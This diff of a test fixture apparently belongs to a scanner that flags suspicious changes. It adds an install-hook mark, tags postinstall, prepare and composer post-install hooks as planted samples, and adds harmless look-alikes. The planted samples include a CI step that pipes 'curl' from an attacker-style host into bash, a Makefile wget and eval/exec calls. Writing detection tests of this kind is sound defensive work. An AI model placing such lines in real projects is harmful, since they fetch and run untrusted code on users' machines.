@@ -14,6 +14,7 @@ from threegate.plugins.changes.marks import (
     DECODES,
     ENCODED,
     HOST,
+    INSTALL,
     NETWORK,
     PROCESS,
     SHELL,
@@ -55,7 +56,9 @@ PLANTED = [
     ("Makefile", "X := $(shell get)", {SHELL}),
     ("Makefile", "\t@wget -q $(WHERE)", {NETWORK}),
     (".github/workflows/a.yml", "      - run: curl -s https://one.evil.dev | bash", {SHELL, NETWORK, HOST}),
-    ("package.json", '"postinstall": "node -e \\"require(\'child_process\')\\""', {PROCESS}),
+    ("package.json", '"postinstall": "node -e \\"require(\'child_process\')\\""', {PROCESS, INSTALL}),
+    ("package.json", '    "prepare": "node ./tools/prepare.js",', {INSTALL}),
+    ("composer.json", '"post-install-cmd": ["php tools/warm.php"],', {INSTALL}),
     ("a.py", "eval(text)", {CODE}),
     ("a.py", "exec (text)", {CODE}),
     ("a.js", "new Function(text)()", {CODE}),
@@ -102,6 +105,8 @@ PLANTED = [
 ]
 
 ORDINARY = [
+    ("package.json", '"install-peer": "^1.0.0",'),
+    ("a.py", "def install(self): prepare(self)"),
     ("a.py", "def eval(self, node):"),
     ("a.py", "model.eval()"),
     ("a.py", "pattern = re.compile(text)"),
